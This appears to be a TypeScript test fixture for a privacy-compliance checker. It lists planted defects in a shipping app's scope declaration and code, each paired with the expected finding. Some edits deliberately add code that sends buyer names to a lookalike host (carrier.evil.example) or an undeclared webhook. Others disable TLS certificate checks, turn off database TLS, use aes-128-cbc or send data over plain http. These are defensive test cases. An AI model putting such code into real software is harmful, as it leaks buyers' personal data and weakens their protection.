import type { Edit } from './judged-app.js';

/** One thing that cannot be true of the clean app, and who has to find it. At least one of `rule` and `gap` is given. */
export interface Planted {
  readonly name: string;
  readonly edits: readonly Edit[];
  /** A finding of `check` that begins with this. */
  readonly rule?: string;
  /** A line of `report --check` that holds this. */
  readonly gap?: string;
}

const yaml = 'scope-declaration.yaml';
const labels = 'src/shipping/labels.ts';
const orders = 'src/shipping/orders.ts';
const gone = 'src/webhooks/deauthorize.ts';
const notice = 'docs/privacy.md';
const create = 'await prisma.label.create';

const say = (from: string, to: string): Edit => ({ file: yaml, from, to });
const code = (file: string, from: string, to: string): Edit => ({ file, from, to });
const added = (line: string): Edit => code(labels, create, `${line}\n    ${create}`);
const without = (file: string): Edit => ({ file, from: null, to: '' });

export const planted: readonly Planted[] = [
  // Scopes
  {
    name: 'the code needs a scope that is not requested',
    edits: [say('  - seller.fulfillment.basic\n', '')],
    rule: 'missing-scope error',
    gap: 'CONTRADICTION: the code needs it; requestedScopes does not name it',
  },
  {
    name: 'a scope is requested that nothing needs',
    edits: [say('  - seller.order.info\n', '  - seller.order.info\n  - seller.finance.info\n')],
    rule: 'unused-scope error',
    gap: 'CONTRADICTION: requested; no call, webhook or manual use needs it',
  },
  {
    name: 'a scope that does not exist',
    edits: [say('  - seller.order.info\n', '  - seller.orders.info\n')],
    rule: 'unknown-scope',
  },
  {
    name: 'a write scope for a purpose that only reads',
    edits: [
      say('  - seller.order.info\n', '  - seller.order.info\n  - seller.product.write\n'),
      say(
        'company:\n',
        `  - id: reports
    kind: analytics_reporting
    text: Show the seller how often each product of the shop was seen and sold.
    code: [src/reports/**]
    retention: { period: P30D, onDeauthorization: P7D }
company:
`,
      ),
      {
        file: 'src/reports/products.ts',
        from: '',
        to: "import { tts } from '../http.js';\n\nexport const create = () => tts('POST', '/product/202309/products', {});\n",
      },
    ],
    rule: 'exceeds-purpose error src/reports/products.ts:3',
  },
  {
    name: 'a scope is on in the console and not in the declaration',
    edits: [code('console/scopes.json', '"seller.order.info"', '"seller.order.info", "seller.finance.info"')],
    gap: 'CONTRADICTION: console/scopes.json has seller.finance.info enabled; requestedScopes does not name it',
  },
  {
    name: 'a scope is in the declaration and not on in the console',
    edits: [code('console/scopes.json', '"seller.order.info", ', '')],
    gap: 'CONTRADICTION: requestedScopes names seller.order.info; console/scopes.json does not have it enabled',
  },
  {
    name: 'the app holds no token of the kind that a call takes',
    edits: [say('tokens: [seller]', 'tokens: [creator]')],
    rule: 'wrong-token',
  },
  // Purposes
  {
    name: 'a field is read that the purpose never takes',
    edits: [
      code(
        labels,
        'const to = order.recipient_address;',
        'const to = order.recipient_address;\n    const { cpf } = order as any; if (cpf) return;',
      ),
    ],
    rule: 'field-not-allowed',
  },
  {
    name: 'a purpose whose code is in no folder that there is',
    edits: [say('code: [src/connect/**]', 'code: [src/connect/**, src/conect/**]')],
    rule: 'invalid-declaration warning scope-declaration.yaml',
  },
  {
    name: 'a purpose that no call serves',
    edits: [
      say(
        'company:\n',
        '  - id: refunds\n    kind: returns_refunds\n    text: Handle the returns that buyers ask for and refund them.\n    code: [src/storage/**]\n    retention: { period: P30D, onDeauthorization: P7D }\ncompany:\n',
      ),
    ],
    rule: 'unused-purpose',
  },
  {
    name: 'a purpose that says nothing',
    edits: [
      say(
        'text: Identify the shop the seller connected and renew its authorization.',
        'text: Improve our services.',
      ),
    ],
    rule: 'vague-purpose',
  },
  {
    name: 'a purpose that has ended and whose calls go on',
    edits: [
      say(
        'since: 2025-01-01\n    code: [src/connect/**]',
        'since: 2025-01-01\n    until: 2026-03-31\n    code: [src/connect/**]',
      ),
    ],
    gap: 'CONTRADICTION: connect-shop ended 2026-03-31; its calls are still in the code',
    rule: 'stale-evidence warning scope-declaration.yaml',
  },
  {
    name: 'a purpose that has yet to begin and whose calls are there',
    edits: [
      say('since: 2025-01-01\n    code: [src/connect/**]', 'since: 2027-01-01\n    code: [src/connect/**]'),
    ],
    gap: 'CONTRADICTION: connect-shop begins 2027-01-01; its calls are in the code already',
    rule: 'stale-evidence warning scope-declaration.yaml',
  },
  // Retention
  {
    name: 'a period without an end',
    edits: [say('period: P30D, after: order.completed', 'period: as long as needed, after: order.completed')],
    rule: 'open-ended-retention',
  },
  {
    name: 'nothing is said to be kept, and the code stores it',
    edits: [
      say(
        'period: P30D, after: order.completed, onDeauthorization: P7D',
        'period: P0D, onDeauthorization: P0D',
      ),
    ],
    gap: 'CONTRADICTION: ship-orders keeps nothing (P0D); the code stores buyer.name in main-db',
    rule: 'notice-gap warning scope-declaration.yaml',
  },
  {
    name: 'the period of a category that there is not',
    edits: [
      say(
        'onDeauthorization: P7D }',
        'onDeauthorization: P7D, byCategory: { buyer.adress: { period: P1Y } } }',
      ),
    ],
    rule: 'invalid-declaration error',
  },
  // Recipients
  {
    name: 'the code sends to somebody who is not declared',
    edits: [added("await axios.post('https://hooks.chat.example/T1', { text: to.name });")],
    rule: 'notice-gap error',
    gap: 'MISSING: recipients[].hosts, packages or code: none names hooks.chat.example',
  },
  {
    name: 'a recipient is declared whom nothing reaches',
    edits: [
      say(
        'storage:\n',
        '  - { id: mailer, name: Mailer Inc., role: sub-processor, country: DE, transferMechanism: none-needed, hosts: [api.mailer.example], contract: docs/carrier.md }\nstorage:\n',
      ),
      code(notice, 'with nobody else', 'with Mailer Inc.'),
    ],
    gap: 'CONTRADICTION: recipient mailer is bound to api.mailer.example; no personal data is seen to go there',
    rule: 'invalid-declaration warning scope-declaration.yaml',
  },
  {
    name: 'a purpose shares with somebody whom it does not name',
    edits: [say('    shareWith: [carrier]\n', '')],
    gap: 'CONTRADICTION: data goes to carrier; shareWith of ship-orders does not name it',
    rule: 'notice-gap warning scope-declaration.yaml',
  },
  {
    name: 'a purpose names a recipient that there is not',
    edits: [say('shareWith: [carrier]', 'shareWith: [carier]')],
    rule: 'invalid-declaration error',
    gap: 'CONTRADICTION: shareWith names carier; recipients does not',
  },
  {
    name: 'a recipient gets more than is declared',
    edits: [
      say(
        'receives: [buyer.name, buyer.phone, buyer.address_street]',
        'receives: [buyer.name, buyer.address_street]',
      ),
    ],
    gap: 'CONTRADICTION: buyer.phone goes to carrier; receives does not name it',
    rule: 'notice-gap warning scope-declaration.yaml',
  },
  {
    name: 'a recipient gets a category that there is not',
    edits: [say('receives: [buyer.name,', 'receives: [buyer.nam, buyer.name,')],
    rule: 'invalid-declaration error',
  },
  {
    name: 'a recipient without a country',
    edits: [say('    role: sub-processor\n    country: DE\n', '    role: sub-processor\n')],
    rule: 'place-gap',
    gap: 'MISSING: recipients.carrier.country',
  },
  {
    name: 'a recipient without a way of transfer',
    edits: [say('    transferMechanism: none-needed\n', '')],
    gap: 'MISSING: recipients.carrier.transferMechanism',
  },
  {
    name: 'a contract that is not there',
    edits: [without('docs/carrier.md')],
    rule: 'invalid-declaration warning scope-declaration.yaml',
    gap: 'MISSING: docs/carrier.md: the file is not there',
  },
  // Stores and deletion
  {
    name: 'a store without a country',
    edits: [say('    kind: postgres\n    country: DE\n', '    kind: postgres\n')],
    gap: 'MISSING: storage.main-db.country',
    rule: 'place-gap warning scope-declaration.yaml',
  },
  {
    name: 'a store in a country that the company does not name',
    edits: [say('    kind: postgres\n    country: DE\n', '    kind: postgres\n    country: US\n')],
    rule: 'place-gap',
    gap: 'CONTRADICTION: store main-db is in US; company.systemLocations names DE',
  },
  {
    name: 'a backup in a country that the company does not name',
    edits: [say('backups: { retention: P7D, country: DE }', 'backups: { retention: P7D, country: US }')],
    rule: 'place-gap',
    gap: 'CONTRADICTION: the backup of main-db is in US; company.systemLocations names DE',
  },
  {
    name: 'a store holds what it is not declared to hold',
    edits: [say('holds: [buyer.name, buyer.address_street]', 'holds: [buyer.name]')],
    rule: 'notice-gap error',
    gap: 'CONTRADICTION: the code stores buyer.address_street in main-db; no holds names it',
  },
  {
    name: 'a store is declared that nothing writes to',
    edits: [
      say(
        'rights:\n',
        '  - { id: cache, kind: redis, country: DE, encryptionAtRest: AES-256, code: [redis.orders], backups: { retention: P1D, country: DE } }\nrights:\n',
      ),
    ],
    gap: 'CONTRADICTION: store cache is bound to redis.orders; no personal data is seen to be stored there',
    rule: 'invalid-declaration warning scope-declaration.yaml',
  },
  {
    name: 'a deletion misses a store',
    edits: [
      added('await prisma.parcel.create({ data: { shopId, name: to.name } });'),
      say('code: [prisma.label]', 'code: [prisma.label, prisma.parcel]'),
    ],
    gap: 'MISSING: deletion of prisma.parcel',
    rule: 'no-deletion-on-deauthorization warning scope-declaration.yaml',
  },
  {
    name: 'the handler of the deletion only marks',
    edits: [
      code(
        gone,
        'deleteMany({ where: { shopId } })',
        'updateMany({ where: { shopId }, data: { deleted: true } })',
      ),
    ],
    rule: 'no-deletion-on-deauthorization error',
    gap: 'MISSING: deletion of prisma.label',
  },
  {
    name: 'the handler of the deletion is not there',
    edits: [
      say(
        'deletion: { handler: src/webhooks/deauthorize.ts#onDeauthorized }',
        'deletion: { handler: src/webhooks/deauthorize.ts#onGone }',
      ),
    ],
    rule: 'no-deletion-on-deauthorization error',
  },
  {
    name: 'another webhook leads to the handler',
    edits: [code('src/server.ts', 'req.body.type === 6', 'req.body.type === 7')],
    rule: 'no-deletion-on-deauthorization error',
    gap: 'MISSING: deletion of prisma.label: not seen: webhook 6 does not lead to the handler',
  },
  {
    name: 'the deletion is never come to',
    edits: [code(gone, '  await prisma.label', '  return;\n  await prisma.label')],
    rule: 'no-deletion-on-deauthorization error',
    gap: 'MISSING: deletion of prisma.label',
  },
  {
    name: 'nothing handles the webhook of the deletion',
    edits: [
      code('src/server.ts', '  if (req.body.type === 6) await onDeauthorized(req.body.shop_id);\n', ''),
    ],
    rule: 'no-deletion-on-deauthorization warning',
    gap: 'MISSING: deletion of prisma.label: no entry point',
  },
  {
    name: 'the webhook of the deletion is not subscribed to',
    edits: [say('webhooks: [6]', 'webhooks: [1]')],
    gap: 'CONTRADICTION: deletion.handler is declared; webhooks does not name 6',
    rule: 'no-deletion-on-deauthorization warning scope-declaration.yaml',
  },
  {
    name: 'a handler of a right that is not there',
    edits: [
      say(
        'handler: src/webhooks/deauthorize.ts#onDeauthorized }\ncontrols',
        'handler: src/support/erase.ts#erase }\ncontrols',
      ),
    ],
    gap: 'MISSING: src/support/erase.ts: the file is not there',
    rule: 'invalid-declaration warning scope-declaration.yaml',
  },
  {
    name: 'a right that is not told of',
    edits: [say('  rectify: { how: A new label is printed }\n', '')],
    gap: 'MISSING: rights.rectify',
  },
  // Protection
  {
    name: 'AES-128 at rest',
    edits: [say('algorithm: AES-256', 'algorithm: AES-128')],
    rule: 'weak-protection',
    gap: 'CONTRADICTION: main-db: AES-128 at rest, below what the platform asks for',
  },
  {
    name: 'TLS 1.1 in transit',
    edits: [say('inTransit: TLS1.2', 'inTransit: TLS1.1')],
    rule: 'weak-protection',
    gap: 'CONTRADICTION: TLS1.1 in transit, below what the platform asks for',
  },
  {
    name: 'a weak cipher in code',
    edits: [
      code(orders, 'import', "import { createCipheriv } from 'node:crypto';\nimport"),
      code(
        orders,
        'return page.orders',
        "createCipheriv('aes-128-cbc', page.key, page.iv);\n  return page.orders",
      ),
    ],
    rule: 'weak-protection',
    gap: 'CONTRADICTION: the code uses aes-128-cbc',
  },
  {
    name: 'personal data over plain http',
    edits: [
      code(orders, 'import', "import axios from 'axios';\nimport"),
      code(
        orders,
        'return page.orders',
        `for (const { recipient_address: to } of page.orders)
    await axios.post('http://api.carrier.example/v1/names', { name: to.name });
  return page.orders`,
      ),
    ],
    rule: 'weak-protection',
    gap: 'CONTRADICTION: the code uses http://api.carrier.example',
  },
  {
    name: 'personal data in a log',
    edits: [added('console.log(to.name);')],
    rule: 'personal-data-logged',
    gap: 'warning personal-data-logged',
  },
  {
    name: 'the document about encryption is not there',
    edits: [without('docs/encryption.md')],
    rule: 'invalid-declaration warning scope-declaration.yaml',
    gap: 'MISSING: docs/encryption.md: the file is not there',
  },
  // What people attest
  {
    name: 'a review that is too old',
    edits: [
      say(
        'document: docs/policies.md, owner: engineering, reviewed: 2026-05-02',
        'document: docs/policies.md, owner: engineering, reviewed: 2025-05-02',
      ),
    ],
    rule: 'stale-evidence',
    gap: 'STALE: controls.information-security-policy',
  },
  {
    name: 'a review that is yet to come',
    edits: [
      say(
        'statement: Once a year., owner: engineering, reviewed: 2026-05-02',
        'statement: Once a year., owner: engineering, reviewed: 2027-05-02',
      ),
    ],
    rule: 'stale-evidence',
    gap: 'CONTRADICTION: controls.awareness-training: reviewed 2027-05-02, after 2026-11-01',
  },
  {
    name: 'a certificate that has ended',
    edits: [say('validUntil: 2028-01-31', 'validUntil: 2026-01-31')],
    rule: 'stale-evidence',
    gap: 'STALE: ISO 27001 ended 2026-01-31',
  },
  {
    name: 'a certificate that is not there',
    edits: [without('docs/certificate.md')],
    rule: 'invalid-declaration warning scope-declaration.yaml',
    gap: 'MISSING: docs/certificate.md: the file is not there',
  },
  {
    name: 'a policy that is not there',
    edits: [without('docs/policies.md')],
    rule: 'invalid-declaration warning scope-declaration.yaml',
    gap: 'MISSING: docs/policies.md: the file is not there',
  },
  {
    name: 'a no without a reason',
    edits: [say('answer: no, because: Planned for next year.,', 'answer: no,')],
    rule: 'invalid-declaration error',
    gap: 'MISSING: controls.penetration-test.because',
  },
  {
    name: 'a yes without anything to show',
    edits: [say('answer: yes, statement: Once a year.,', 'answer: yes,')],
    rule: 'invalid-declaration error',
    gap: 'MISSING: controls.awareness-training.document or statement',
  },
  {
    name: 'no officer, and no reason',
    edits: [say('  dpoReason: No large-scale monitoring.\n', '')],
    gap: 'MISSING: company.dpo, or company.dpoReason for none',
  },
  {
    name: 'an exception that has ended',
    edits: [
      say(
        'webhooks: [6]',
        'exceptions: [{ rule: surplus-data, endpoint: POST /order/202309/orders/search, until: 2026-03-31, reason: Migration., approvedBy: owner }]\nwebhooks: [6]',
      ),
    ],
    rule: 'expired-exception',
  },
  // The privacy notice
  {
    name: 'the notice was last changed too long ago',
    edits: [say('updated: 2026-05-02', 'updated: 2025-05-02')],
    gap: 'STALE: notice reviewed 2025-05-02',
    rule: 'stale-evidence warning scope-declaration.yaml',
  },
  {
    name: 'the notice names a host that neither code nor declaration knows',
    edits: [code(notice, 'and with nobody else', 'and send the name to track.adnet.example')],
    gap: 'CONTRADICTION: docs/privacy.md shares data with track.adnet.example; neither code nor declaration knows it',
    rule: 'notice-gap warning scope-declaration.yaml',
  },
  {
    name: 'the code sends to a recipient whom the notice does not name',
    edits: [
      code(
        notice,
        'Carrier Example GmbH in Germany (https://api.carrier.example), and',
        'a carrier in Germany, and',
      ),
    ],
    gap: 'CONTRADICTION: data goes to carrier; docs/privacy.md does not name Carrier Example GmbH or api.carrier.example',
    rule: 'notice-gap warning scope-declaration.yaml',
  },
  {
    name: 'the saved notice is not there',
    edits: [without('docs/privacy.md')],
    rule: 'invalid-declaration warning scope-declaration.yaml',
    gap: 'MISSING: docs/privacy.md: the file is not there',
  },
  {
    name: 'the notice is said to be changed on a day to come',
    edits: [say('updated: 2026-05-02', 'updated: 2027-05-02')],
    rule: 'stale-evidence warning scope-declaration.yaml',
    gap: 'CONTRADICTION: privacyNotice.updated says 2027-05-02, after 2026-11-01',
  },
  // What no paper and no rule had told
  {
    name: 'the register of the controllers is not there',
    edits: [without('docs/sellers.md')],
    rule: 'invalid-declaration warning scope-declaration.yaml',
    gap: 'MISSING: docs/sellers.md: the file is not there',
  },
  {
    name: 'the review of accesses is too old',
    edits: [say('accessReviewed: 2026-05-02', 'accessReviewed: 2024-01-15')],
    rule: 'stale-evidence warning scope-declaration.yaml',
    gap: 'STALE: protection.accessReviewed: reviewed 2024-01-15',
  },
  {
    name: 'a host that bears the name of a recipient and is another',
    edits: [added("await axios.post('https://carrier.evil.example/x', { name: to.name });")],
    rule: 'notice-gap error src/shipping/labels.ts',
    gap: 'MISSING: recipients[].hosts, packages or code: none names carrier.evil.example',
  },
  {
    name: 'a transfer that needs a ground and has none',
    edits: [
      say(
        '    country: DE\n    transferMechanism: none-needed',
        '    country: US\n    transferMechanism: none-needed',
      ),
    ],
    rule: 'place-gap warning scope-declaration.yaml',
    gap: 'warning place-gap: Recipient `carrier` is in US',
  },
  {
    name: 'data stays longer after a withdrawal than at all',
    edits: [
      say('after: order.completed, onDeauthorization: P7D', 'after: order.completed, onDeauthorization: P2Y'),
    ],
    rule: 'open-ended-retention warning scope-declaration.yaml',
    gap: 'warning open-ended-retention: Data of `ship-orders` stays P2Y',
  },
  {
    name: 'a country that there is not',
    edits: [say('headquarters: DE', 'headquarters: XX')],
    rule: 'place-gap warning scope-declaration.yaml',
    gap: 'warning place-gap: `XX` under `company.headquarters` is the code of no country',
  },
  {
    name: 'unchecked certificates in a file that only uses the data',
    edits: [
      code(
        labels,
        'const CARRIER',
        "import https from 'node:https';\nexport const agent = new https.Agent({ rejectUnauthorized: false });\nconst CARRIER",
      ),
    ],
    rule: 'weak-protection warning src/shipping/labels.ts',
    gap: 'CONTRADICTION: the code uses rejectUnauthorized: false',
  },
  {
    name: 'a recipient is sent personal data without TLS',
    edits: [code(labels, "'https://api.carrier.example", "'http://api.carrier.example")],
    rule: 'weak-protection warning src/shipping/labels.ts',
    gap: 'CONTRADICTION: the code uses http://api.carrier.example',
  },
  {
    name: 'a database without TLS',
    edits: [
      code(
        'src/storage/db.ts',
        'new PrismaClient()',
        "new PrismaClient({ datasourceUrl: 'postgres://app@db.example/orders?sslmode=disable' })",
      ),
    ],
    rule: 'weak-protection warning src/storage/db.ts',
    gap: 'CONTRADICTION: the code uses sslmode=disable',
  },
];
